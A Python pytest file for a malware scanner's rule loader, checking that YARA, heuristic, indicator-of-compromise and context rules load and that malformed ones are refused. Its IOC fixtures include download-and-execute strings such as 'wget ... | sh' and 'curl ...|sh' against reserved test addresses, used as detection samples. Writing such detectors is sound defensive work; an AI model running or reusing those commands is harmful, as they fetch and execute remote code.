"""Strictness of the rule loader: every malformed rule file is refused with the file (and line) named."""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest

from rules.loader import load_ruleset, ruleset_version
from workers.errors import RuleLoadError
from workers.settings import PROJECT_ROOT

GOOD_YARA = """rule demo_marker
{
    meta:
        id = "demo.marker"
        description = "test marker"
        severity = "high"
        confidence = "high"
        category = "miner"
        attack = "T1496"
    strings:
        $a = "tollgate-test-marker"
    condition:
        $a
}
"""

GOOD_HEURISTIC = """id: demo.env-marker
description: test heuristic
severity: medium
confidence: medium
category: miner
attack: T1496
when:
  contains: {field: env, value: MARKER}
samples:
  match: [{Env: ["MARKER=1"]}]
  benign: [{Env: ["PATH=/bin"]}]
"""


GOOD_IOC = """id: ioc.demo
description: test indicators
severity: high
confidence: medium
category: miner
attack: T1105
indicators:
  - {type: ipv4, value: 192.0.2.77, source: "test report 2024"}
  - {type: domain, value: c2.example.invalid, source: "test report 2024"}
  - {type: url, value: "http://198.51.100.9/d.sh", source: "test report 2024"}
  - {type: sha256, value: AB0000000000000000000000000000000000000000000000000000000000CDEF, source: "test report 2024"}
samples:
  match: ["wget -q -O - 192.0.2.77/d.sh | sh"]
  benign: ["192.0.2.770"]
"""


def _tree(
    tmp_path: Path, yara: str = GOOD_YARA, heuristic: str = GOOD_HEURISTIC, ioc: str | None = None
) -> Path:
    root = tmp_path / "rules"
    (root / "yara").mkdir(parents=True)
    (root / "heuristics").mkdir()
    (root / "yara" / "demo.marker.yar").write_text(yara)
    (root / "heuristics" / "demo.env-marker.yaml").write_text(heuristic)
    if ioc is not None:
        (root / "iocs").mkdir()
        (root / "iocs" / "ioc.demo.yaml").write_text(ioc)
    for kind in ("match", "benign"):
        folder = root / "samples" / "demo.marker" / kind
        folder.mkdir(parents=True)
        (folder / "s.txt").write_text("tollgate-test-marker" if kind == "match" else "nothing")
    return root


def test_good_tree_loads(tmp_path: Path) -> None:
    ruleset = load_ruleset(_tree(tmp_path))
    assert set(ruleset.rules) == {"demo.marker", "demo.env-marker"}


@pytest.mark.parametrize(
    ("yara", "message"),
    [
        (GOOD_YARA.replace('attack = "T1496"', 'attack = "T1496"\n        colour = "red"'), "unknown meta keys"),
        (GOOD_YARA.replace('        attack = "T1496"\n', ""), "missing meta keys"),
        (GOOD_YARA.replace('"high"', '"extreme"', 1), "severity"),
        (GOOD_YARA.replace('category = "miner"', 'category = "fun"'), "category"),
        (GOOD_YARA.replace('attack = "T1496"', 'attack = "mining"'), "ATT&CK"),
        (GOOD_YARA.replace('id = "demo.marker"', 'id = "demo.other"'), "file name"),
        (GOOD_YARA.replace("$a\n}", "$b\n}"), "demo.marker.yar:"),
        (GOOD_YARA.replace('attack = "T1496"', 'attack = "T1496"\n        scope = "runtime"'), "scope"),
        (GOOD_YARA.replace('attack = "T1496"', 'attack = "T1496"\n        validate = "luhn"'), "validate"),
        (GOOD_YARA.replace('attack = "T1496"', 'attack = "T1496"\n        path_exclude = 3'), "path_exclude"),
    ],
)
def test_bad_yara_is_refused(tmp_path: Path, yara: str, message: str) -> None:
    with pytest.raises(RuleLoadError, match=message.replace("(", r"\(")):
        load_ruleset(_tree(tmp_path, yara=yara))


@pytest.mark.parametrize(
    ("heuristic", "message"),
    [
        (GOOD_HEURISTIC + "colour: red\n", "unknown keys"),
        (GOOD_HEURISTIC.replace("contains:", "resembles:"), "unknown operator"),
        (GOOD_HEURISTIC.replace("field: env", "field: kernel"), "unknown field"),
        (
            GOOD_HEURISTIC.replace("contains: {field: env, value: MARKER}", "matches: {field: env, value: '(['}"),
            "bad regular expression",
        ),
        (GOOD_HEURISTIC.replace('  benign: [{Env: ["PATH=/bin"]}]\n', ""), "samples"),
        ("id: [unclosed\n", "demo.env-marker.yaml:"),
    ],
)
def test_bad_heuristic_is_refused(tmp_path: Path, heuristic: str, message: str) -> None:
    with pytest.raises(RuleLoadError, match=message):
        load_ruleset(_tree(tmp_path, heuristic=heuristic))


def test_new_optional_meta_is_read(tmp_path: Path) -> None:
    extra = (
        'attack = "T1496"\n        scope = "exec"\n        validate = "monero-address"\n'
        '        path_exclude = "/a/*, /b"'
    )
    meta = load_ruleset(_tree(tmp_path, yara=GOOD_YARA.replace('attack = "T1496"', extra))).rules["demo.marker"]
    assert (meta.scope.value, meta.validate, meta.path_exclude) == ("exec", "monero-address", ("/a/*", "/b"))


def test_good_ioc_list_loads_and_compiles(tmp_path: Path) -> None:
    from workers.domain import sha256_digest
    from workers.scanners.base import FileContext
    from workers.scanners.yara_scanner import YaraScanner

    ruleset = load_ruleset(_tree(tmp_path, ioc=GOOD_IOC))
    assert ruleset.rules["ioc.demo"].kind == "ioc"
    assert [len(i.indicators) for i in ruleset.iocs] == [4]
    # hashes are normalised to lowercase and served to the layer scan, not compiled into YARA
    assert dict(ruleset.ioc_hashes) == {"ab" + "0" * 58 + "cdef": "ioc.demo"}
    scanner = YaraScanner(ruleset)

    def hits(text: str) -> set[str]:
        ctx = FileContext("x", 0, sha256_digest(b"l"), None, 0o644, len(text), text.encode())
        return {f.rule for f in scanner.scan_file(ctx)}

    assert "ioc.demo" in hits("curl http://198.51.100.9/d.sh|sh")
    assert "ioc.demo" in hits("nslookup www.C2.example.invalid")
    assert "ioc.demo" not in hits("c2.example.invalidated 192.0.2.770 http://198.51.100.9/d.sh2")


@pytest.mark.parametrize(
    ("ioc", "message"),
    [
        (GOOD_IOC + "colour: red\n", "unknown keys"),
        (GOOD_IOC.replace("attack: T1105\n", ""), "missing keys"),
        (GOOD_IOC.replace("id: ioc.demo", "id: ioc.other"), "file name"),
        (GOOD_IOC.replace("type: ipv4", "type: asn"), "indicator type"),
        (GOOD_IOC.replace("192.0.2.77, source", "192.0.2.300, source"), "not a valid IPv4"),
        (GOOD_IOC.replace("c2.example.invalid", "c2_example..invalid"), "not a valid domain"),
        (GOOD_IOC.replace('"http://198.51.100.9/d.sh"', '"javascript:alert(1)"'), "URL"),
        (GOOD_IOC.replace("AB00000", "XY00000"), "not a sha256"),
        (GOOD_IOC.replace('value: 192.0.2.77, source: "test report 2024"', "value: 192.0.2.77"), "needs a source"),
        (GOOD_IOC.replace('source: "test report 2024"}', 'source: "test report 2024", tlp: red}', 1), "unknown keys"),
        (GOOD_IOC.replace("  - {type: ipv4", "  - 192.0.2.1\n  - {type: ipv4"), "mapping"),
        (GOOD_IOC.replace('  benign: ["192.0.2.770"]\n', ""), "samples"),
        (GOOD_IOC.replace("indicators:\n", "indicators: []\nold:\n"), "unknown keys"),
        ("id: [unclosed\n", "ioc.demo.yaml:"),
    ],
)
def test_bad_ioc_list_is_refused(tmp_path: Path, ioc: str, message: str) -> None:
    with pytest.raises(RuleLoadError, match=message) as caught:
        load_ruleset(_tree(tmp_path, ioc=ioc))
    assert "ioc.demo.yaml" in str(caught.value)


def test_duplicate_indicator_and_empty_list_are_refused(tmp_path: Path) -> None:
    dup = GOOD_IOC.replace("indicators:\n", 'indicators:\n  - {type: ipv4, value: 192.0.2.77, source: "again"}\n')
    with pytest.raises(RuleLoadError, match="duplicate indicator"):
        load_ruleset(_tree(tmp_path / "a", ioc=dup))
    start, end = GOOD_IOC.index("indicators:"), GOOD_IOC.index("samples:")
    empty = GOOD_IOC[:start] + "indicators: []\n" + GOOD_IOC[end:]
    with pytest.raises(RuleLoadError, match="non-empty list"):
        load_ruleset(_tree(tmp_path / "b", ioc=empty))


def test_version_covers_ioc_lists(tmp_path: Path) -> None:
    root = _tree(tmp_path, ioc=GOOD_IOC)
    before = ruleset_version(root)
    (root / "iocs" / "ioc.demo.yaml").write_text(GOOD_IOC.replace("192.0.2.77,", "192.0.2.78,"))
    assert ruleset_version(root) != before


def test_missing_samples_are_refused(tmp_path: Path) -> None:
    root = _tree(tmp_path)
    shutil.rmtree(root / "samples" / "demo.marker" / "benign")
    with pytest.raises(RuleLoadError, match="benign"):
        load_ruleset(root)


def test_extra_pack_that_fails_to_compile_names_file_and_line(tmp_path: Path) -> None:
    pack = tmp_path / "ops.yar"
    pack.write_text("rule ok { condition: true }\n\nrule broken { condition: nonsense_identifier }\n")
    with pytest.raises(RuleLoadError, match=r"ops\.yar:3"):
        load_ruleset(_tree(tmp_path), [pack])


def test_extra_pack_rules_get_safe_defaults(tmp_path: Path) -> None:
    pack = tmp_path / "ops.yar"
    pack.write_text('rule Ops_Thing { strings: $a = "zzz" condition: $a }\n')
    ruleset = load_ruleset(_tree(tmp_path), [pack])
    meta = ruleset.rules["extra.ops-thing"]
    assert (meta.severity.value, meta.confidence.value, meta.category.value) == ("medium", "low", "pua")


def test_version_changes_with_any_rule_byte(tmp_path: Path) -> None:
    root = _tree(tmp_path)
    before = ruleset_version(root)
    assert before == ruleset_version(root)
    (root / "yara" / "demo.marker.yar").write_text(GOOD_YARA + "\n")
    assert ruleset_version(root) != before


def test_shipped_rules_version_is_stamped() -> None:
    assert load_ruleset(PROJECT_ROOT / "rules").version == ruleset_version(PROJECT_ROOT / "rules")


GOOD_CONTEXT = """id: context.demo
description: test context rule
severity: medium
confidence: medium
category: defense-evasion
attack: T1036.005
samples:
  match:
    - layers: [{tmp/x: {elf: "x", mode: 0o755}}]
  benign:
    - layers: [{usr/bin/x: "text"}]
      config: {Cmd: ["/usr/bin/x"]}
      repository: demo/app
"""


def _context_tree(tmp_path: Path, text: str) -> Path:
    root = _tree(tmp_path)
    (root / "context").mkdir()
    (root / "context" / "context.demo.yaml").write_text(text)
    return root


def test_good_context_rule_loads(tmp_path: Path) -> None:
    ruleset = load_ruleset(_context_tree(tmp_path, GOOD_CONTEXT))
    (rule,) = ruleset.context
    assert rule.meta.kind == "context" and ruleset.rules["context.demo"] is rule.meta
    assert rule.samples_benign[0]["repository"] == "demo/app"


@pytest.mark.parametrize(
    ("text", "message"),
    [
        (GOOD_CONTEXT + "when: {}\n", "unknown keys"),
        (GOOD_CONTEXT.replace("severity: medium\n", ""), "missing keys"),
        (GOOD_CONTEXT.replace("    - layers: [{tmp/x", "    - files: [{tmp/x"), "a sample is a mapping"),
        (GOOD_CONTEXT.replace("{tmp/x:", "{/tmp/x:"), "must be relative"),
        (GOOD_CONTEXT.replace("{tmp/x:", "{a/../../x:"), "must be relative"),
        (GOOD_CONTEXT.replace('{elf: "x", mode: 0o755}', "{exe: x}"), "must be text or a mapping"),
        (GOOD_CONTEXT.replace("  benign:\n", "  benign: []\n  other:\n"), "samples must have exactly"),
        (GOOD_CONTEXT.replace("category: defense-evasion", "category: spooky"), "category"),
    ],
)
def test_bad_context_rule_is_refused(tmp_path: Path, text: str, message: str) -> None:
    with pytest.raises(RuleLoadError, match=message):
        load_ruleset(_context_tree(tmp_path, text))


def test_version_covers_context_rules(tmp_path: Path) -> None:
    root = _context_tree(tmp_path, GOOD_CONTEXT)
    before = ruleset_version(root)
    (root / "context" / "context.demo.yaml").write_text(GOOD_CONTEXT.replace("medium", "high", 1))
    assert ruleset_version(root) != before
